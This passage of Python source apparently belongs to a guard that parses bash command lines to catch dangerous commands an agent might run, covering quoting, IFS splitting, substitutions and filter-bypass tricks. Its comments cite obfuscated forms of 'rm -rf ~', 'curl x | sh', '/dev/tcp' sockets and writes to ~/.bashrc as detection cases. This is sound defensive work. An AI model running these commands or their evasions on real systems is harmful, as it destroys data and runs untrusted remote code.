        values = [self.word(node) for node in nodes]
        self.masking = masking
        masked = [
            v.translate(_MASK) if n.type in _QUOTED_NODES else v for n, v in zip(nodes, values, strict=True)
        ]
        return self.words(nodes[0], braces + "".join(masked))

    def words(self, node: Node, value: str | None = None) -> list[str]:
        """The words a word node expands to: usually one; several for ``{a,b}`` and ``${IFS}``."""
        if value is None:
            masking, self.masking = self.masking, True
            value = self.word(node)
            self.masking = masking
        plain = value.translate(_UNMASK).replace(_UNQUOTED, "") if self.arrays else ""
        array = (_ARRAY_ALL.fullmatch(plain) or _ZSH_ARRAY.fullmatch(plain)) if self.arrays else None
        if array is not None and array.group(1) in self.arrays:
            # "${cmd[@]}"; and $cmd, which in zsh is every element too (bash: the first; the
            # guard judges the reading that runs more, for commands a zsh runs).
            owner = self.owners.get(f"{array.group(1)}[@]")
            elements = self.arrays[array.group(1)]
            if owner is not None and owner is not self.subs:
                elements = [self.adopt(element, owner) for element in elements]
            if self.splitting and value.startswith(_UNQUOTED):  # ${a[@]} unquoted: each element split
                return [field for element in elements for field in fields(element, self.ifs())]
            return list(elements)
        parts = [part for part in value.split(_IFS) if part] if _IFS in value else [value]
        if node.type in ("concatenation", "word", "command_name") and "{" in value:
            parts = [expanded for part in parts for expanded in expand_braces(part)]
        if "\ue025" in value or "\ue026" in value or "\ue027" in value:
            parts = [part.translate(_UNMASK) for part in parts]
        expanded = [expanded for part in parts for expanded in self.expand(part)]
        if not any(_IFS in word for word in expanded):
            return expanded
        # An unquoted variable's value, split into words (IFS=,; x=rm,-rf,/; $x is rm -rf /).
        split = [word.split(_IFS) if _IFS in word else [word] for word in expanded]
        return [field for fields_ in split for field in fields_ if field]

    def expand(self, word: str) -> list[str]:
        """Variables set earlier in the line; a variable with several values gives several words.

        The value of an unquoted one is split at ``IFS``: the fields are joined by the
        split marker, for :meth:`words` to cut.
        """
        if "$" not in word or not self.variables:
            return [word.replace(_UNQUOTED, "")] if _UNQUOTED in word else [word]
        match = _VARIABLE.search(word)
        if match is None:
            return [word.replace(_UNQUOTED, "")]
        results = [""]
        last = 0
        # An empty unquoted value is no word only when the word is nothing else (a${x}b is "ab").
        alone = not _VARIABLE.sub("", word.replace(_UNQUOTED, ""))
        for match in _VARIABLE.finditer(word):
            name = match.group(1) or match.group(2)
            name = self.namerefs.get(name, name)
            values = self.variables.get(name, [match.group(0)])
            owner = self.owners.get(name)
            if owner is not None and owner is not self.subs:
                values = [self.adopt(value, owner) for value in values]
            unquoted = match.start() and word[match.start() - 1] == _UNQUOTED
            if self.splitting and unquoted and name in self.variables:
                # No field at all (x=''; echo $x): no word, as the lone marker is cut away; blanks
                # only (x=' '; echo a${x}b): a split.
                ifs = self.ifs()
                values = [_IFS.join(fields(v, ifs)) or (_IFS if alone or v else "") for v in values]
            prefix = word[last : match.start()]
            results = [r + prefix + v for r in results for v in values][:MAX_LOOP_VALUES]
            last = match.end()
        return [(r + word[last:]).replace(_UNQUOTED, "") for r in results]

    def assigned_words(self, node: Node) -> list[str]:
        """The value of an assignment: variables in it expand, but are not split (``x=$y``)."""
        self.splitting, splitting = False, self.splitting
        try:
            return self.words(node)
        finally:
            self.splitting = splitting

    def evaluated(self, value: str) -> str:
        """``value`` with the substitutions that can be worked out (``$(echo rm)``) put in."""
        if _SUB_OPEN not in value:
            return value
        command = SimpleCommand((), (), self.subs)
        if any(carries_runtime(sub) for sub in command.substitutions_in(value)):
            # read c; d=$c (and d=$(echo "$c")): d is made at run time too (not the text "$c")
            return value
        static = command.static(value)
        return value if static is None else static

    def ifs(self) -> str:
        """The shell's ``IFS`` as far as the line tells (``IFS=,``), else the default."""
        values = self.variables.get("IFS")
        if values is None or len(values) != 1 or "$" in values[0] or _SUB_OPEN in values[0]:
            return DEFAULT_IFS
        return values[0]

    def adopt(self, value: str, owner: list[Substitution]) -> str:
        """A loop variable's value used in a nested command: its placeholders re-pointed at our list.

        ``for d in $(ls); do echo "$(dirname "$d")"; done``: ``$d``'s placeholder indexes
        the loop's substitutions, not those of the ``$(dirname ...)`` being built.
        """
        if _SUB_OPEN not in value:
            return value

        def repoint(match: re.Match[str]) -> str:
            self.subs.append(owner[int(match.group(1))])
            return f"{_SUB_OPEN}{len(self.subs) - 1}{_SUB_CLOSE}"

        return _PLACEHOLDER.sub(repoint, value)

    def word(self, node: Node) -> str:
        """The value of one word node after quote removal; substitutions become placeholders."""
        kind = node.type
        if kind == "word" or kind == "number":
            return _unescape(self.text(node))
        if kind == "raw_string":
            return self.text(node)[1:-1]
        if kind == "ansi_c_string":
            return ansi_c(self.text(node)[2:-1])
        if kind in ("command_substitution", "process_substitution"):
            text = self.text(node)  # `" `echo -s` "`: tree-sitter puts the blank in the backtick token
            return text[: len(text) - len(text.lstrip())] + self.substitution(node)
        if kind == "expansion":
            found = self.operation(self.text(node))
            if found is not None:
                return found
        if kind == "simple_expansion" or kind == "expansion":
            text = self.text(node)
            if text in ("$IFS", "${IFS}") or text.startswith("${IFS"):
                return _IFS
            default = self.default(node)
            if default is not None:
                return default
            parts = [self.word(c) for c in node.children if c.type in ("command_substitution",)]
            return _UNQUOTED + text + "".join(parts)
        if kind == "regex":
            return self.pattern(node)
        if kind == "$":
            # `rm -r$"" -f`: the `$` of a translated string, with what precedes it in the word.
            following = node.next_sibling
            text = self.text(node)
            if following is not None and following.start_byte == node.end_byte:
                first = following.children[0] if following.type == "concatenation" else following
                text = text[:-1] if first.type == "string" else text
            return _unescape(text)
        if kind == "translated_string":  # $"rm": the string, translated (to itself, in the C locale)
            return "".join(self.word(child) for child in node.named_children)
        if kind == "string":
            return self.join(node, quoted=True)
        if kind == "string_content":
            return _unescape_double(self.text(node))
        if kind == "ERROR" and any(child.type in _OPENERS for child in node.children):
            return _IFS.join(self.loose_words(node.children))  # $(( $({rm,-rf,~}) )): code inside
        if kind in ("concatenation", "array", "arithmetic_expansion", "brace_expression", "ERROR"):
            return self.join(node, quoted=False)
        if node.children:
            return self.join(node, quoted=False)
        return self.text(node)

    def pattern(self, node: Node) -> str:
        """A ``regex`` node: the word after ``=~`` or ``==``, which tree-sitter keeps as opaque
        text (also in a plain command, ``env [[ x =~ $(…) ]]``, where bash sees a word). bash
        expands it: each substitution's code, to its end in the text, is parsed again."""
        parts: list[str] = []
        position = node.start_byte
        while (found := _PATTERN_SPECIAL.search(self.source, position, node.end_byte)) is not None:
            at = found.start()
            if found.group() == b"\\":
                parts.append(self.source[position : at + 2].decode("utf-8", "surrogatepass"))
                position = at + 2
                continue
            parts.append(self.source[position:at].decode("utf-8", "surrogatepass"))
            opener = found.group().decode()
            end = self.reparse_from(opener, found.end())
            parts.append(f"{_SUB_OPEN}{len(self.subs) - 1}{_SUB_CLOSE}")
            position = end + 1
        parts.append(self.source[position : node.end_byte].decode("utf-8", "surrogatepass"))
        return "".join(parts)

    def default(self, node: Node) -> str | None:
        """``${x:-~/.bashrc}`` of a variable the line never set: its default word is the value.

        (Variables the shell itself sets, ``${HOME:-/}``, keep their name: the rules know them.)
        """
        children = node.children
        if (
            len(children) < 4
            or children[1].type != "variable_name"
            or children[2].type not in (":-", "-", ":=", "=")
            or children[-1].type != "}"
        ):
            return None
        name = self.text(children[1])
        if name in self.variables or name in _SET_BY_SHELL:
            return None
        parts = [self.text(children[0])[:-2]]  # tree-sitter puts a string's blank into the `${` token
        position = children[2].end_byte
        for child in children[3:-1]:
            parts.append(self.source[position : child.start_byte].decode("utf-8", "surrogatepass"))
            parts.append(self.word(child) if child.is_named else self.text(child))
            position = child.end_byte
        value = "".join(parts)
        quoted = node.parent is not None and node.parent.type == "string"
        return value if quoted else _BLANKS.sub(_IFS, value)  # ${u:-rm -rf ~} unquoted: three words

    def join(self, node: Node, *, quoted: bool) -> str:
        """The children's values, with the text between them, in order."""
        parts: list[str] = []
        position = node.start_byte
        children = node.children
        for index, child in enumerate(children):
            if (
                child.type == "$"
                and index + 1 < len(children)
                and children[index + 1].type == "string"
                and children[index + 1].start_byte == child.end_byte
            ):
                position = child.end_byte
                continue  # $"-fr" that tree-sitter split: a translated string, the `$` no character
            gap = self.source[position : child.start_byte].decode("utf-8", "surrogatepass")
            if gap:
                parts.append(_unescape_double(gap) if quoted else gap)
            if child.is_named:
                value = self.word(child)
                if self.masking and not quoted and child.type in _QUOTED_NODES:
                    value = value.translate(_MASK)
                parts.append(value if not quoted else value.replace(_IFS, "$IFS").replace(_UNQUOTED, ""))
            elif child.type == "``":
                pass  # r``m: an empty command substitution, which tree-sitter keeps as a token, is nothing
            elif not (quoted and child.type in ('"', '$"')):
                parts.append(self.text(child))
            elif len(self.text(child)) > len(child.type):
                parts.append(self.text(child)[: -len(child.type)])  # `"rm "`: the blank is in the `"` token
            position = child.end_byte
        tail = self.source[position : node.end_byte].decode("utf-8", "surrogatepass")
        if tail:
            parts.append(_unescape_double(tail) if quoted else tail)
        return "".join(parts)

    def substitution(self, node: Node) -> str:
        spend()
        text = self.text(node).lstrip()
        if node.type == "process_substitution":
            kind, inner_text = text[:2], text[2:-1]
        elif text.startswith("`"):
            kind, inner_text = "`", text[1:-1]
            if _BACKTICK.search(inner_text):
                return self.backticks(text)
            if "\\`" in inner_text:  # `echo \`rm -rf ~\``: bash unescapes, then parses the code
                return self.reparse("`", _ESCAPED_IN_BACKTICKS.sub(r"\1", inner_text))
        else:
            kind, inner_text = "$(", text[2:-1]
        printed = _PRINTENV.fullmatch(inner_text)
        if printed is not None:  # $(printenv NAME): the variable's value, read as ${NAME} is
            return f"{_UNQUOTED}${{{printed.group(1)}}}"
        inner = self.nested()
        inner.statements(node)
        self.subs.append(Substitution(kind, inner_text, inner.script()))
        self.functions.extend(inner.functions)
        return f"{_SUB_OPEN}{len(self.subs) - 1}{_SUB_CLOSE}"


_PRINTENV = lazy_compile(r"\s*printenv\s+([A-Za-z_][A-Za-z0-9_]*)\s*")
"""``$(printenv NAME)``: what ``${NAME}`` expands to (an exported variable), and judged as it."""
_BODY_BACKTICK = lazy_compile(rb"\\|`")
_PATTERN_SPECIAL = lazy_compile(rb"\\|`|[$<>]\(")
_BODY_SPECIAL = lazy_compile(rb"\\|`|\$\(")
"""What expands in an unquoted here-document body: substitutions; a backslash escapes the next byte."""
_ESCAPED = lazy_compile(r"\\(.)", re.DOTALL)
_ESCAPED_IN_DOUBLE = lazy_compile(r"\\([$`\"\\\n])")


_REDIRECTIONS = frozenset({"file_redirect", "heredoc_redirect", "herestring_redirect"})


def _unescape(text: str) -> str:
    """Quote removal for an unquoted word: ``a\\ b`` is ``a b``, ``\\<newline>`` vanishes."""
    if "\\" not in text:
        return text
    return _ESCAPED.sub(lambda m: "" if m.group(1) == "\n" else m.group(1), text)


def _unescape_double(text: str) -> str:
    """Inside double quotes only ``\\$ \\` \\" \\\\`` and a line continuation are escapes."""
    if "\\" not in text:
        return text
    return _ESCAPED_IN_DOUBLE.sub(lambda m: "" if m.group(1) == "\n" else m.group(1), text)


_SEPARATORS = frozenset({";", "&", "&&", "||", "|", "|&", ";;", ";&", ";;&", "\n"})
"""Tokens that end a command, also among the loose nodes of an ERROR."""


_BACKTICK = lazy_compile(r"(?<!\\)`")
_OPERATOR_CHAR = lazy_compile(r"[<>|;&]")
_ESCAPED_IN_BACKTICKS = lazy_compile(r"\\([`$\\])")


def _root_slash(name: str, indirect: bool, operator: str) -> str | None:
    """``/`` for ``${HOME:0:1}``, ``${PATH%%u*}``, ``${PWD%%[a-z]*}`` …: an operation on a variable every
    shell sets to an absolute path that leaves its first character whatever the value is (tried on
    several values), the slash a filter-bypass payload spells without writing it; else None (the
    environment's value, unknown: ``${PATH%%:*}`` stays unread)."""
    samples = _ROOTED.get(name)
    if samples is None or indirect or not operator:
        return None
    results = {operated(sample, operator) for sample in samples}
    return "/" if results == {"/"} else None


_ROOTED = {
    "HOME": ("/home/dev", "/root", "/var/lib/app"),
    "PWD": ("/home/dev/project", "/tmp", "/srv/app"),
    "OLDPWD": ("/home/dev/project", "/tmp", "/srv/app"),
    "PATH": ("/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "/usr/bin:/bin"),
    "SHELL": ("/bin/bash", "/usr/bin/zsh", "/bin/sh"),
    "BASH": ("/bin/bash", "/usr/bin/bash", "/usr/local/bin/bash"),
}
"""Values of variables the shell sets to an absolute path, for :func:`_root_slash`: Linux ones, as the
payloads mean them (on macOS ``${HOME%%[a-z]*}`` is ``/U``; a PATH that starts in the home makes
``${PATH%%u*}`` longer than ``/``): the reading a payload means is judged, the stricter one."""

_SET_BY_SHELL = frozenset({
    "HOME", "PWD", "OLDPWD", "PATH", "USER", "LOGNAME", "SHELL", "HOSTNAME", "UID", "EUID", "PPID",
    "BASH", "RANDOM", "SECONDS", "LINENO", "TMPDIR",
})  # fmt: skip
"""Variables set in any shell an agent runs: ``${HOME:-x}`` is ``$HOME``, not ``x``."""
_WORD_LIKE = frozenset({
    "word", "concatenation", "string", "raw_string", "ansi_c_string", "translated_string",
    "simple_expansion", "expansion", "command_substitution", "number", "arithmetic_expansion",
    "brace_expression", "command_name",
})  # fmt: skip
_RESERVED = frozenset(
    {
        "if",
        "then",
        "elif",
        "else",
        "fi",
        "do",
        "done",
        "while",
        "until",
        "!",
        "{",
        "}",
        "time",
        "coproc",
        "function",
    }
)
"""Reserved words that, first in a command, open or close a compound command (``time``: a pipeline)."""
_REDIRECTED_COMPOUNDS = frozenset({
    "while_statement", "compound_statement", "subshell", "if_statement", "negated_command",
    "case_statement", "c_style_for_statement",
})  # fmt: skip
"""Compound commands whose redirections (``! echo x >> ~/.bashrc``) apply to the commands inside."""
_OPENERS = frozenset({"$(", "`", "<(", ">("})
_NESTING = {"$(": 1, "<(": 1, ">(": 1, "(": 1, ")": -1}


def _matching_close(source: bytes, start: int, opener: str) -> int:
    """Where the substitution whose code starts at ``source[start]`` ends: its ``)`` (or backtick),
    skipping quotes, escapes and nested parentheses; the end of the text if it never closes."""
    depth = 1
    index = start
    length = len(source)
    while index < length:
        byte = source[index]
        if byte == 0x5C:  # backslash
            index += 2
            continue
        if opener == "`":
            if byte == 0x60:
                return index
        elif byte == 0x27:  # '...'
            close = source.find(b"'", index + 1)
            index = length if close < 0 else close + 1
            continue
        elif byte == 0x22:  # "...", with its escapes
            index += 1
            while index < length and source[index] != 0x22:
                index += 2 if source[index] == 0x5C else 1
            index += 1
            continue
        elif byte == 0x28:
            depth += 1
        elif byte == 0x29:
            depth -= 1
            if depth == 0:
                return index
        index += 1
    return length


def _loose_redirects(words: list[str]) -> tuple[list[str], list[Redirect]]:
    """Loose words split into words and redirections (an operator, then its target)."""
    kept: list[str] = []
    redirects: list[Redirect] = []
    index = 0
    while index < len(words):
        if words[index] in _REDIRECT_OPERATORS and index + 1 < len(words):
            redirects.append(Redirect(words[index], words[index + 1]))
            index += 2
        else:
            kept.append(words[index])
            index += 1
    return kept, redirects


def _glued_brace(node: Node) -> bool:
    children = node.children
    return len(children) > 1 and children[0].type == "{" and children[0].end_byte == children[1].start_byte


def _split_word(node: Node, text: str) -> bool:
    """A word node with a blank inside (`{ {`): tree-sitter's, never bash's (which splits it there)."""
    if node.type == "command_name" and [c.type for c in node.children] != ["word"]:
        return False
    # The substring tests first: the look-behind costs a step per character (0.07 s on 10 MB).
    return (" " in text or "\t" in text) and _UNESCAPED_BLANK.search(text) is not None


_UNESCAPED_BLANK = lazy_compile(r"(?<!\\)[ \t]+")
_BLANKS = lazy_compile(r"[ \t\n]+")


def _unescape_gap(text: str) -> str:
    """Text between loose nodes: a line continuation vanishes."""
    return text.replace("\\\n", "")


def _plain(node: Node) -> bool:
    """Whether ``node`` holds nothing but :data:`_PLAIN_NODES` (its value is its text)."""
    stack = [node]
    while stack:
        spend()
        each = stack.pop()
        if each.type not in _PLAIN_NODES:
            return False
        stack.extend(each.children)
    return True


def _errors(node: Node) -> Iterator[Node]:
    if node.type == "ERROR" or node.is_missing:
        yield node
    elif node.has_error:
        for child in node.children:
            yield from _errors(child)


@functools.lru_cache(maxsize=16)
def parsed(text: str) -> Script:
    """The parse of a command line, shared by every guard that judges it (parsed once)."""
    return parse(text)


_CHUNK = 1 << 20
_ASCII = bytes(b if b < 0x80 and b not in b"\r\v\f" else 0x61 for b in range(256))
"""Every non-ASCII byte read as ``a``: tree-sitter-bash's scanner crashes the process now and
then on non-ASCII input (a segfault, reproduced with 0.23-0.26), and no byte above 0x7f is
shell syntax, so the tree is the same; the words are read from the original bytes. CR, VT and FF
are read as ``a`` too: tree-sitter takes them for blanks, bash for characters of a word
(``echo \\<CR><LF>curl x | sh`` runs curl, which tree-sitter reads as an argument of echo)."""


_PREFIXES = lazy_compile(
    rb"(^|[;&|(){}\n]|(?<![\w.-])(?:then|do|else|elif|if|while|until))([ \t]*)"
    rb"((?:(?:!|time(?:[ \t]+-p)?|coproc(?:[ \t]+[A-Za-z_][A-Za-z0-9_]*"
    rb"(?=[ \t]+(?:[{(]|(?:if|for|while|until|case|select)[ \t]|\[\[[ \t])))?)[ \t]+)+)"
)
"""``!``, ``time [-p]`` and ``coproc [NAME]`` before a command: tree-sitter-bash knows no
coprocess, nor ``! case`` or ``time case``, and misreads what follows (``coproc c { case x in
x) rm -rf ~;; esac; }`` is one command named coproc to it). They change how a command runs,
not what runs: blanked in the text tree-sitter reads (the words are read from the original
bytes), the tree holds the command bash runs."""


def _blank_prefixes(match: re.Match[bytes]) -> bytes:
    return match.group(1) + match.group(2) + b" " * len(match.group(3))


_SUBSTRING = lazy_compile(rb"\$\{[A-Za-z_][A-Za-z0-9_]*:(?![-=?+])[^}\n]*")
"""``${x:$i}``, ``${x:1:$n}``: a substring whose offset or length is a ``$name``. tree-sitter-bash
ends the expansion at the ``$`` (a missing ``}``, then ``$i}`` a word of its own); bash reads one
word. Each such ``$`` is read as ``_`` in the text tree-sitter parses (``${x:_i}``, an expansion
it reads whole); the word is read from the original bytes (:meth:`_Builder.operation`)."""
_OFFSET_VARIABLE = lazy_compile(rb"\$(?=[A-Za-z0-9_])")


def _plain_offsets(match: re.Match[bytes]) -> bytes:
    return _OFFSET_VARIABLE.sub(b"_", match.group())


def _parse_within_budget(source: bytes) -> Tree:
    """tree-sitter reads the text a megabyte at a time, so the budget is checked as it goes."""
    source = source.translate(_ASCII)
    if b"${" in source and b":" in source:  # cheap searches first, as below
        source = _SUBSTRING.sub(_plain_offsets, source)
    # `!` and `time` misread only before a case or `((` (a `)`): one-byte searches first (0.1 ms a 10 MB).
    if b"coproc" in source or ((b")" in source or b"{" in source) and (b"!" in source or b"time" in source)):
        source = _PREFIXES.sub(_blank_prefixes, source)
    if len(source) <= _CHUNK:
        spend()
        return _parser().parse(source)

    def read(offset: int, _point: Point) -> bytes:
        spend()
        return source[offset : offset + _CHUNK]

    return _parser().parse(read)


MAX_PIPELINE_STAGES = 2_000
"""More ``|`` operators than this in one command are denied before parsing: tree-sitter-bash
takes time that grows with the square of a pipeline's stages (2,000 stages: about 0.1 s;
8,000: over a second; a megabyte of them: minutes). No real command comes near it."""

_HEREDOC = lazy_compile(r"<<-?[ \t]*(?:'([^'\n]+)'|\"([^\"\n]+)\"|\\?([A-Za-z0-9_.-]+))")


_SPECIAL = lazy_compile(r"""['"\\|<\n]""")
_DOUBLE_QUOTED_SPECIAL = lazy_compile(r'["\\]')


def pipeline_operators(text: str, *, stop_after: int | None = None) -> int:
    """How many ``|`` operators a command has outside quotes and here-document bodies: one
    linear pass that jumps from one special character to the next (a pre-check of the input's
    shape, not a parse; ``||`` does not count). Stops counting past ``stop_after``."""
    count = 0
    index = 0
    length = len(text)
    pending: list[str] = []  # here-document delimiters whose bodies start at the next line
    while index < length and (stop_after is None or count <= stop_after):
        found = _SPECIAL.search(text, index)
        if found is None:
            break
        index = found.start()
        char = text[index]
        if char == "'":
            close = text.find("'", index + 1)
            index = length if close < 0 else close + 1
            continue
        if char == '"':
            index += 1
            while (inner := _DOUBLE_QUOTED_SPECIAL.search(text, index)) and inner.group() == "\\":
                index = inner.end() + 1
            index = inner.end() if inner else length
            continue
        if char == "\\":
            index += 2
            continue
        if char == "|":
            if text.startswith("||", index):
                index += 2
                continue
            count += 1
        elif char == "<":
            match = _HEREDOC.match(text, index) if not text.startswith("<<<", index) else None
            if match:
                pending.append(next(group for group in match.groups() if group))
                index = match.end()
                continue
        elif pending:  # a newline: the here-document bodies start here
            index += 1
            for delimiter in pending:  # skip each body, up to its delimiter line
                end = re.compile(rf"^\t*{re.escape(delimiter)}$", re.MULTILINE).search(text, index)
                index = end.end() if end else length
            pending.clear()
            continue
        index += 1
    return count


_CONTINUATION_SPECIAL = lazy_compile(r"""[\\'"#]""")


def join_continuations(text: str) -> str:
    """The text with its line continuations removed, as bash's reader removes them before lexing.

    tree-sitter-bash reads ``r\\<newline>m`` as two words; bash as ``rm``. A backslash-newline
    is kept inside single quotes, ``$'...'`` and comments (bash keeps it there too). One pass.
    """
    out: list[str] = []
    index = 0
    length = len(text)
    double = False
    while True:
        found = _CONTINUATION_SPECIAL.search(text, index)
        if found is None:
            out.append(text[index:])
            return "".join(out)
        at = found.start()
        char = text[at]
        if char == "\\":
            out.append(text[index:at])
            if text.startswith("\n", at + 1):
                index = at + 2  # the continuation vanishes
            else:
                out.append(text[at : at + 2])  # an escaped character, kept as it is
                index = at + 2
            continue
        if char == '"':
            double = not double
            out.append(text[index : at + 1])
            index = at + 1
            continue
        if double:
            out.append(text[index : at + 1])
            index = at + 1
            continue
        if char == "'":
            # '...' has no escapes; $'...' has, and keeps its backslash-newlines too.
            ansi = at > 0 and text[at - 1] == "$"
            close = at + 1
            while True:
                close = text.find("'", close)
                if close < 0 or not ansi or not _escaped(text, close):
                    break
                close += 1
            end = length if close < 0 else close + 1
            out.append(text[index:end])
            index = end
            continue
        # '#': a comment when it starts a word; it runs to the end of the line.
        if at == 0 or text[at - 1] in " \t\n;&|()<>":
            end = text.find("\n", at)
            end = length if end < 0 else end
            out.append(text[index:end])
            index = end
        else:
            out.append(text[index : at + 1])
            index = at + 1


def _escaped(text: str, index: int) -> bool:
    """Whether the character at ``index`` follows an odd number of backslashes."""
    count = 0
    while index - count - 1 >= 0 and text[index - count - 1] == "\\":
        count += 1
    return count % 2 == 1


def as_read(text: str) -> str:
    """``text`` as the parser reads it, the text of each :class:`Function` a part of it: cut at a NUL
    (the end of the C string bash is given), line continuations joined, the private-use characters
    of the placeholders replaced (the same characters in the input are not ours)."""
    text = text.partition("\0")[0]
    if "\\\n" in text:
        text = join_continuations(text)
    return text.translate(_OURS)


def parse(text: str, *, strict: bool = False) -> Script:
    """Parse a command line once: linear in its length.

    With ``strict=True`` a syntax error raises :class:`ShellSyntaxError`;
    otherwise what parsed is returned with ``malformed=True``, since bash runs
    the commands before an error in a script, and the rules judge them.
    """
    stages = MAX_PIPELINE_STAGES
    if text.count("|") > stages and pipeline_operators(text, stop_after=stages) > stages:
        raise TooComplex(
            f"a pipeline of more than {MAX_PIPELINE_STAGES:,} stages is more than the guards judge"
        )
    nul = "\0" in text
    source = as_read(text).encode("utf-8", "surrogatepass")
    source += closing(source)  # bodies the end of the text ends, closed as bash reads them
    tree = _parse_within_budget(source)
    root = tree.root_node
    if root.has_error and strict:
        raise ShellSyntaxError("the command is not valid shell syntax")
    builder = _Builder(source)
    try:
        if root.type == "ERROR":  # `{rm,-rf,~} | cat`: no program node at all
            builder.error(root, background=False)
        else:
            builder.statements(root)
        builder.unread_bodies(root)
    except RecursionError:
        raise ShellSyntaxError(f"the command nests more than {MAX_DEPTH} levels deep") from None
    script = builder.script()
    malformed = root.has_error and not _only_read_write_operators(root, source)
    return script.replace(malformed=True) if malformed or nul else script


def _glued_descriptor(node: Node, child: Node, text: str) -> bool:
    """Whether ``child``, the last part of the redirection ``node``, is digits written right before the
    next redirection's operator (``0>&1``): bash reads them as that redirection's descriptor."""
    following = node.next_sibling
    return (
        text.isdigit()
        and child.end_byte == node.end_byte
        and following is not None
        and following.type == "file_redirect"
        and following.start_byte == child.end_byte
        and not any(c.type == "file_descriptor" for c in following.children)
    )


def _only_read_write_operators(root: Node, source: bytes) -> bool:
    """Whether the tree's only errors are ``N<>FILE`` operators, which bash reads and tree-sitter does not
    (``exec 3<>/dev/tcp/h/p``: ``<`` then an error ``>``): the builder reads them as ``<>``."""
    stack = [root]
    while stack:
        spend()
        node = stack.pop()
        if node.is_missing:
            return False
        if node.type == "ERROR":
            parent = node.parent
            text = source[node.start_byte : node.end_byte]
            before, after = node.prev_sibling, node.next_sibling
            read_write = (text == b">" and before is not None and before.type == "<") or (
                text == b"<" and after is not None and after.type == ">"
            )
            if parent is None or parent.type != "file_redirect" or not read_write:
                return False
            continue
        stack.extend(child for child in node.children if child.has_error or child.is_missing)
    return True
